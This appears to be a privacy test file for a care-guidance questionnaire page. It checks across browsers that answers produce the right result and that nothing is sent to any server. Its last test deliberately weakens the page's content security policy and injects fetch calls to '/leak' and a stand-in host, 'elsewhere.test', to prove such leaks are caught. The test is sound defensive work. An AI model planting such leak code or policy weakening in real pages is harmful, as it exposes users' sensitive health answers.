// Whole runs of every kind of result: nothing is asked of the server or of any other, and the page
// around hears nothing.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { everyKind, people } from '../people.mjs';
import { atResult, weakened } from '../reseal.mjs';
import { stride } from '../stride.mjs';
import { levelNames, result } from '../walk.mjs';
import { inEachEngine, until } from './engines.mjs';
import { open } from './site.mjs';

// What Firefox itself wants to know, whatever it shows.
const isOwn = (address) => /\.mozilla\.(com|org|net):443$/.test(address);

const levels = Object.keys(levelNames);
const ends = {
  ...Object.fromEntries(Object.keys(people).map((who) => [who, `level ${levels.indexOf(who)}`])),
  'a range': /^range \d to \d$/, teen: 'young', child: 'young',
};

inEachEngine((browser) => {
  for (const [who, chosen] of Object.entries(everyKind)) {
    test(who, async (t) => {
      const { frame, host, requests } = await open(t, browser);
      requests.length = 0;
      browser.elsewhere.length = 0;
      const end = await stride(frame, { chosen, about: true });

      if (ends[who].test) assert.match(end, ends[who]);
      else assert.equal(end, ends[who]);
      if (end === 'young') {
        assert.ok(await frame.locator('.cc-main a[href="tel:988"]').isVisible());
      } else if (who in people) {
        const { facts } = await result(frame);
        assert.ok(facts.some((fact) => fact.includes(levelNames[who])), facts.join(' | '));
      }
      assert.deepEqual(requests, []);
      assert.deepEqual(browser.elsewhere.filter((address) => !isOwn(address)), []);
      const heard = await host.evaluate(() => globalThis.spied.filter((line) => /message|read by|inside/.test(line)));
      assert.deepEqual(heard, ['page message {"type":"ready"}']);
    });
  }

  test('planted: a page with a policy that lets it connect, and that tells its own server and another one at the result', async (t) => {
    const telling = (html, origin) => atResult(`for (const to of ['${origin}/leak', 'http://elsewhere.test/leak']) fetch(to, { mode: 'no-cors' }).catch(() => undefined)`)(
      weakened("connect-src 'none'", 'connect-src *')(html));
    const { frame, requests } = await open(t, browser, { change: { 'care-compass.html': telling } });
    await stride(frame, { chosen: people.emergency });
    await until(() => requests.includes('/leak') && browser.elsewhere.includes('http://elsewhere.test/leak'), 'both requests');
  });
});
